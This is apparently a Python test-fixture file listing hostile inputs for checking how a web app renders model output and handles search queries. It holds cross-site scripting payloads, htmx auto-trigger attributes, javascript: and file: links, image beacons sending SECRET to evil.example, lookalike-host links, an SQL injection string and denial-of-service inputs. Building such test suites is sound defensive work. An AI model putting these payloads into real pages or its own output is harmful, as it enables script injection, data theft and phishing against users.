"""What a model, or who writes its prompt, may put into a text so that a browser does something with it."""

SCRIPTS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/?q=SECRET'>",
    "<svg onload=alert(1)><use href='https://evil.example/x.svg#a'/></svg>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "</textarea><script>alert(1)</script>",
    "</div></section></main><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<form action=//evil.example><button autofocus>Sign in</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'; body { display: none }</style>",
    "<object data=https://evil.example/></object><embed src=https://evil.example/>",
    "<video autoplay src=https://evil.example/v><audio autoplay src=https://evil.example/a>",
    "<a hx-get=/keys hx-trigger=load>x</a>",
    "<div hx-post=/history/clear hx-trigger='load'>x</div>",
    "<div data-hx-get='/history' data-hx-trigger='load'>x</div>",
    "<p hx-on:load='alert(1)' hx-on::after:swap='alert(1)'>x</p>",
    "<hx-partial hx-target='#answer'><script>alert(1)</script></hx-partial>",
    "<button data-copy=output autofocus onfocus=alert(1)>Copy</button>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "{{ 7 * 7 }} ${alert(1)} <%= 7 * 7 %>",
    "`<script>alert(1)</script>` and ``<img src=x onerror=alert(1)>``",
    "```html\n<script>alert(1)</script>\n```",
    '```html" onmouseover="alert(1)\n<img src=x onerror=alert(1)>\n```',
    "| a | b |\n|---|:-:|\n| <img src=x onerror=alert(1)> | ![x](https://evil.example/t.png) |",
    "# <script>alert(1)</script>\n\n> <img src=x onerror=alert(1)>",
]
NO_LINKS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java\\\nscript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](blob:https://evil.example/1)",
    "[x](//evil.example/)",
    "[x](/history/clear)",
    "[x](#main)",
    "[x](mailto:someone@evil.example)",
    "[x](https:evil.example)",
    "[x](https:\\\\evil.example)",
    "[x](https://good.example@evil.example/)",
    "[x](https://good.example:80@evil.example/)",
    "[x](https://good.example%2f@evil.example/)",
    "<javascript:alert(1)>",
    "[x][r]\n\n[r]: javascript:alert(1)",
]
IMAGES = [
    "![what it shows](https://evil.example/?q=SECRET)",
    "![what it shows][pic]\n\n[pic]: https://evil.example/?q=SECRET",
    "![what it shows](https://evil.example/x.png 'title')",
    "![what it shows](data:image/png;base64,AAAA)",
    "![what it shows](//evil.example/x.png)",
    "![what it shows](/history/export.json)",
    "[![what it shows](https://evil.example/x.png)](https://evil.example/)",
]
# The host that must stand beside each.
LINKS = {
    "[a bank](https://evil.example/login)": "evil.example",
    "[good.example](https://evil.example)": "evil.example",
    "[x](HTTPS://EVIL.example/)": "evil.example",
    "[x](http://127.0.0.1:8000/history)": "127.0.0.1",
    "[x](https://\u0430pple.example/)": "xn--pple-43d.example",
    "[](https://evil.example/)": "evil.example",
    "[x][r]\n\n[r]: https://evil.example/ 'title'": "evil.example",
    "[<img src=x onerror=alert(1)>](https://evil.example/)": "evil.example",
    '[x](https://evil.example/" onmouseover="alert(1))': "",
}
EVERYTHING = [*SCRIPTS, *NO_LINKS, *IMAGES, *LINKS]
# What a person may type into a form.
HOSTILE = '</textarea><script>alert(1)</script><img src=x onerror=alert(1) hx-get="/x">'
# What a person may type into the search.
NASTY = [
    "", " ", '"', '""', '"""', "'", "*", "-", "--", "---a", '-"', '-"a b', "a AND b", "a OR b", "NOT", "NEAR(a b, 2)", "AND OR NOT",
    "^a", "input:a", "owner : b", "{input} : a", "a + b", "(a", "a)", "((((", "a*b*c*", "\x00", "a\x00b", "\ud800", "😀", "👨‍👩‍👧", "-a -b",
    "-", "%", "_", "a_b", "';DROP TABLE answers; --", "\\", "a\\", "\u202eabc", "e\u0301", "ß", "ﬁ", "½", "⑴", "İ", "漢字", "ค้นหา", "हिन्दी",
    "a" * 100_000, '"' * 100_000, "-" * 100_000, "a " * 50_000, "a* " * 30_000, '"a b" ' * 20_000, "*" * 100_000,
]  # fmt: skip
# Repeated, these make work that grows faster than the text, where a function looks at a part of it again and again.
UNITS = {
    "letters": "a", "words": "a ", "blanks": " ", "tabs": "\t", "lines": "\n", "lines of three kinds": "\r\n\r\n\u2028",
    "combining marks": "\u0301\u0316", "iota subscripts": "\u0345\u0301", "marks that are letters": "\uff9e\u0301",
    "marks that fall apart": "\u0f73", "voiced marks": "\u3099", "accents": "éü", "sharp s": "ß ", "Hangul": "각한",
    "Chinese": "漢", "emoji": "👨‍👩‍👧", "ligatures": "ﬁ½", "flags": "\U0001f3f4\U000e0061", "directions": "\u202e\u2066",
    "quotes": '"', "quoted words": '"a b" ', "minuses": "-", "stars": "*", "prefixes": "abc* ", "brackets": "[", "pairs": "[] ",
    "roles": "user[ ] ", "braces": "{", "tags": "{{ ", "front matter": "---\n", "lists": "- a\n", "tables": "a|b\n-|-\n",
    "emphasis": "*a **b ", "links": "[a](https://a.b ", "images": "![", "quotations": "> ", "code": "`` ` ", "references": "[a]: b\n",
    "entities": "&#", "elements": "<a ", "backslashes": "\\", "colons": ":", "dots": "a.", "schemes": "https://a.", "NULs": "\x00",
    "surrogates": "\ud800", "underscores": "_",
}  # fmt: skip


def of_size(unit: str, size: int) -> str:
    """A word, the unit again and again, and a word: `size` characters between the words."""
    return f"a {(unit * (size // len(unit) + 1))[:size]} b"
